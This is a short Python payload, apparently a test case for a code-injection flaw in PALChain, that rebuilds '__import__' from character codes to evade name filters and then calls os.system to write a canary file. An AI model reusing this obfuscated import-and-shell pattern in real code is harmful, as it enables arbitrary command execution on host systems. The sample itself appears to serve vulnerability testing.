# source: PALChain CVE-2025-61423
# effect: process

name = "".join(chr(code) for code in (95, 95, 105, 109, 112, 111, 114, 116, 95, 95))
getattr(__builtins__, name)("os").system("echo names/chr_join_getattr > /tmp/canary/process")
